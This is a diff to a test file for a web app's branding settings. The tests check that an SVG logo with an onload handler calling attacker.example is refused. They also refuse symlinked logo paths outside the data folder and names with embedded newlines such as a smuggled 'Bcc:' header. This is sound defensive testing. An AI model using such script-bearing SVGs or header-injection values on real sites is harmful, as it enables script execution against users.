@@ -8,6 +8,7 @@ import { createRequire } from 'node:module';
 import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { ConfigError, loadConfig } from '../../src/platform/config.js';
+import { CONTENT_SECURITY_POLICY } from '../../src/platform/http/security-headers.js';
 import { loadDeploymentIdentity } from '../../src/platform/identity/deployment-identity.js';
 import { createTestApp, orgId, signIn, testConfig, type TestApp } from '../support/app.js';
 
@@ -24,13 +25,26 @@ const NHS_FAVICON = fs.readFileSync(createRequire(import.meta.url).resolve('nhsu
 const SVG_POLICY = "default-src 'none'; style-src 'unsafe-inline'";
 
 let dataDir: string;
+/** A folder beside the data folder, and a link to the data folder itself. */
+let elsewhere: string;
 beforeAll(() => {
   dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'bulwark-identity-'));
   fs.writeFileSync(path.join(dataDir, 'logo.svg'), SVG_LOGO);
   fs.writeFileSync(path.join(dataDir, 'logo.png'), PNG_LOGO);
   fs.writeFileSync(path.join(dataDir, 'hostile.svg'), '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://attacker.example\')"/>');
+  elsewhere = fs.mkdtempSync(path.join(os.tmpdir(), 'bulwark-identity-elsewhere-'));
+  fs.writeFileSync(path.join(elsewhere, 'other.svg'), SVG_LOGO);
+  fs.symlinkSync(path.join(elsewhere, 'other.svg'), path.join(dataDir, 'linked.svg'));
+  fs.symlinkSync(elsewhere, path.join(dataDir, 'linked-folder'));
+  fs.symlinkSync(dataDir, path.join(elsewhere, 'data'));
+  // The web app's page, as the build leaves it beside its scripts.
+  fs.mkdirSync(path.join(elsewhere, 'web'));
+  fs.copyFileSync(path.resolve(import.meta.dirname, '../../src/web/index.html'), path.join(elsewhere, 'web/index.html'));
 });
-afterAll(() => fs.rmSync(dataDir, { recursive: true, force: true }));
+afterAll(() => {
+  fs.rmSync(dataDir, { recursive: true, force: true });
+  fs.rmSync(elsewhere, { recursive: true, force: true });
+});
 
 const get = (t: TestApp, url: string) => t.server.inject({ method: 'GET', url });
 
@@ -61,7 +75,7 @@ describe('the default: Bulwark’s own name and wordmark', () => {
 describe('a deployment with its own names and SVG logo', () => {
   let t: TestApp;
   beforeAll(async () => {
-    t = await createTestApp({ env: { BULWARK_DATA_DIR: dataDir, BULWARK_LOGO: 'logo.svg', BULWARK_SERVICE_NAME: 'Cyber Hub', BULWARK_ORGANISATION_NAME: 'Northshire Care Ltd' } });
+    t = await createTestApp({ webRoot: path.join(elsewhere, 'web'), env: { BULWARK_DATA_DIR: dataDir, BULWARK_LOGO: 'logo.svg', BULWARK_SERVICE_NAME: 'Cyber Hub', BULWARK_ORGANISATION_NAME: 'Northshire Care Ltd' } });
   });
   afterAll(() => t.close());
 
@@ -79,6 +93,18 @@ describe('a deployment with its own names and SVG logo', () => {
     expect(logo.headers['x-content-type-options']).toBe('nosniff');
     expect(logo.headers['content-security-policy']).toBe(SVG_POLICY);
     expect((await get(t, '/api/v1/identity/favicon')).body).toBe(SVG_LOGO);
+  });
+
+  it('the page sent before any script runs is titled with the service’s name, at every address the app answers', async () => {
+    for (const url of ['/', '/sign-in', '/index.html', '/orgs/anything/people']) {
+      const res = await t.server.inject({ method: 'GET', url, headers: { 'accept-encoding': 'br, gzip' } });
+      expect(res.statusCode, url).toBe(200);
+      expect(res.headers['content-type'], url).toBe('text/html; charset=utf-8');
+      expect(res.headers['cache-control'], url).toBe('no-cache');
+      expect(res.headers['content-security-policy'], url).toBe(CONTENT_SECURITY_POLICY);
+      expect(res.body, url).toContain('<title>Cyber Hub</title>');
+      expect(res.body, url).toContain('Cyber Hub needs JavaScript to run.');
+    }
   });
 
   it('an exported workbook is authored by the organisation running the service', async () => {
@@ -140,6 +166,10 @@ describe('settings that are refused before anything starts', () => {
     ['a logo file that is not there', { BULWARK_LOGO: 'missing.svg' }, 'the logo file missing.svg'],
     ['an SVG logo with an event attribute', { BULWARK_LOGO: 'hostile.svg' }, 'has an event attribute (onload), which runs script'],
     ['a service name of spaces', { BULWARK_SERVICE_NAME: '   ' }, 'BULWARK_SERVICE_NAME'],
+    ['a logo that is a link to a file outside the data folder', { BULWARK_LOGO: 'linked.svg' }, 'cannot be used: it is a link to'],
+    ['a logo in a linked folder outside the data folder', { BULWARK_LOGO: 'linked-folder/other.svg' }, 'outside the data folder; copy the logo itself into the data folder'],
+    ['a service name on two lines', { BULWARK_SERVICE_NAME: 'Cyber\nBcc: someone@example.org' }, 'BULWARK_SERVICE_NAME: must be one line of text, without line breaks, tabs or other control characters'],
+    ['an organisation name with a tab', { BULWARK_ORGANISATION_NAME: 'Northshire\tTrust' }, 'BULWARK_ORGANISATION_NAME: must be one line of text'],
   ])('%s', (_, env, message) => {
     expect(refusal(env)).toContain(message);
   });
@@ -150,7 +180,12 @@ describe('settings that are refused before anything starts', () => {
     );
   });
 
+  it('a data folder reached through a link may hold the logo', () => {
+    const identity = loadDeploymentIdentity(testConfig({ BULWARK_DATA_DIR: path.join(elsewhere, 'data'), BULWARK_LOGO: 'logo.svg' }).identity);
+    expect(identity.mark.kind === 'logo' && identity.mark.logo.bytes.toString()).toBe(SVG_LOGO);
+  });
+
   it('the settings are read only from what is given', () => {
-    expect(loadConfig({}).identity).toEqual({ serviceName: 'Bulwark', organisationName: undefined, logoFile: undefined, nhsIdentity: false });
+    expect(loadConfig({}).identity).toEqual({ serviceName: 'Bulwark', organisationName: undefined, logoFile: undefined, dataDir: path.resolve('data'), nhsIdentity: false });
   });
 });
